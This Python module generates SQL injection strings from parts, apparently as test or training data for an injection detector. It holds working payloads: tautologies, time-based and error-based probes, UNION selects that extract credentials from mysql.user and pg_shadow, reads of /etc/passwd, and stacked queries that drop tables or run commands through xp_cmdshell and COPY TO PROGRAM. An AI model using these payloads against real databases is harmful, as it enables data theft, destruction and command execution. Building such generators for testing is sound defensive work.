"""Injections put together from their parts: a query with a hole, a way out of the hole, a payload, an end.

Every combination is an injection by construction: the payload always leaves the literal it was put in.
"""

import random
from collections.abc import Iterator

# The hole, and what closes the literal (and the parentheses) around it.
QUERIES = (
    ("SELECT * FROM users WHERE id = {}", "1"),
    ("SELECT * FROM users WHERE id = '{}'", "x'"),
    ('SELECT * FROM users WHERE name = "{}"', 'x"'),
    ("SELECT * FROM users WHERE username = '{}' AND password = 'secret'", "admin'"),
    ("SELECT name, price FROM products WHERE (category = '{}') AND released = 1", "Gifts')"),
    ("SELECT id, name FROM items WHERE ((owner = 3) AND (tag = '{}'))", "t'))"),
    ("SELECT * FROM articles WHERE title LIKE '%{}%'", "a%'"),
    ("DELETE FROM sessions WHERE token = '{}'", "t'"),
    ("UPDATE users SET email = 'a@b.c' WHERE name = '{}'", "n'"),
)
ENDS = ("--", "-- ", "-- -", "--+", "#", ";--", "/*")


def constant(rng: random.Random) -> str:
    """A condition that mentions no column."""
    number = rng.randint(0, 99)
    word = rng.choice(["a", "x", "admin", "text", ""])
    return rng.choice(
        [
            f"{number}={number}",
            f"{number} = {number}",
            f"{number}>{number - 1}",
            f"{number}<{number + 3}",
            f"'{word}'='{word}'",
            f"'{word}' LIKE '{word}'",
            f"'{word}' IN ('{word}','b')",
            f"NOT {number}={number + 1}",
            f"NOT '{word}'<>'{word}'",
            f"{number} BETWEEN {number} AND {number + 1}",
            f"{number} IS NOT NULL",
            f"({number})=({number})",
            f"{number}+1={number + 1}",
            f"{number}*2={number * 2}",
            f"-{number}=-{number}",
            f"LENGTH('{word}')={len(word)}",
            f"COALESCE(NULL,{number + 1})={number + 1}",
            f"(SELECT {number})={number}",
            f"EXISTS(SELECT {number})",
            f"CASE WHEN {number}={number} THEN 1 ELSE 0 END=1",
            "TRUE",
            "NOT FALSE",
            "1",
            "NULL IS NULL",
            f"{number} IN ({number})",
            f"0x{number:x}=0x{number:x}",
        ]
    )


COLUMN_TAUTOLOGIES = (
    "id=id",
    "id LIKE '%'",
    "id>=id",
    "NOT id<>id",
    "id BETWEEN id AND id",
    "id IN (id)",
    "(id=1 OR id<>1)",
    "id IS NULL OR id IS NOT NULL",
)
PROBES = (
    "AND SLEEP(5)",
    "AND pg_sleep(5) IS NULL",
    "OR BENCHMARK(1000000,MD5(1))",
    "AND 1=(SELECT 1 FROM pg_sleep(5))",
    "AND 5=DBMS_PIPE.RECEIVE_MESSAGE('a',5)",
    "AND RANDOMBLOB(500000000)",
    "AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))",
    "AND UPDATEXML(1,CONCAT(0x7e,(SELECT 1)),1)",
    "AND 1=CONVERT(int,(SELECT @@version))",
    "AND 1=CAST((SELECT username FROM users LIMIT 1) AS int)",
    "AND CAST(version() AS int)=1",
    "AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "AND SUBSTRING(version(),1,1)='5'",
    "AND LENGTH(DATABASE())>3",
    "AND (SELECT 'x' FROM users LIMIT 1)='x'",
    "AND 1/0=1",
    "AND LOAD_FILE('/etc/passwd') IS NOT NULL",
    "AND UTL_INADDR.GET_HOST_ADDRESS('x') IS NULL",
    "AND (SELECT COUNT(*) FROM information_schema.tables)>0",
    "AND 7=7",
    "AND 7=8",
    "AND 'a'='a'",
    "HAVING 1=1",
)
UNIONS = (
    "UNION SELECT NULL",
    "UNION SELECT NULL,NULL",
    "UNION ALL SELECT 1,2,3",
    "UNION SELECT 'a',NULL",
    "UNION SELECT username,password FROM accounts",
    "UNION SELECT 1,username,3 FROM accounts",
    "UNION SELECT table_name,2 FROM information_schema.tables",
    "UNION SELECT version(),NULL",
    "UNION SELECT @@version,2",
    "UNION SELECT user,authentication_string FROM mysql.user",
    "UNION SELECT usename,passwd FROM pg_shadow",
    "UNION SELECT sql,2 FROM sqlite_master",
    "UNION SELECT load_file('/etc/passwd'),2",
)
STACKED = (
    "; DROP TABLE users",
    "; DELETE FROM users",
    "; INSERT INTO users (name) VALUES ('x')",
    "; UPDATE users SET role = 'admin'",
    "; TRUNCATE TABLE logs",
    "; CREATE TABLE x (a int)",
    "; GRANT ALL ON users TO eve",
    "; SELECT pg_sleep(9)",
    "; EXEC xp_cmdshell 'dir'",
    "; WAITFOR DELAY '0:0:5'",
    "; SHUTDOWN",
    "; COPY users TO PROGRAM 'id'",
)


def injections(seed: int, count: int) -> Iterator[str]:
    rng = random.Random(seed)
    for _ in range(count):
        query, way_out = rng.choice(QUERIES)
        payload = f"{way_out} {_attack(rng)}"
        yield query.format(_disguised(rng, f"{payload} {rng.choice(ENDS)}"))


def _attack(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.45:
        return f"{rng.choice(['OR', 'or', 'Or', '||'])} {constant(rng)}"
    if kind < 0.55:
        return f"OR {rng.choice(COLUMN_TAUTOLOGIES)}"
    return rng.choice(rng.choice((PROBES, UNIONS, STACKED)))


def _disguised(rng: random.Random, payload: str) -> str:
    kind = rng.random()
    if kind < 0.1:
        return payload.replace(" ", "/**/")
    if kind < 0.2:
        return payload.replace(" ", "\n")
    return payload.swapcase() if kind < 0.3 else payload
